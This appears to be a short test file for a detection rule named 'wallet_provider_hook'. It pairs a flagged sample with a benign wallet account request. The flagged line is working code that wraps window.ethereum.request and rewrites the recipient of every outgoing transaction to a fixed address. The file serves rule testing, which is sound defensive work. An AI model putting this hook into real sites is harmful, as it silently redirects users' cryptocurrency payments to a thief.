const original = window.ethereum.request.bind(window.ethereum);
// ruleid: wallet_provider_hook
window.ethereum.request = async (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = '0x5a1e0000000000000000000000000000000dead1'; return original(a); };
// ok: wallet_provider_hook
const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' });
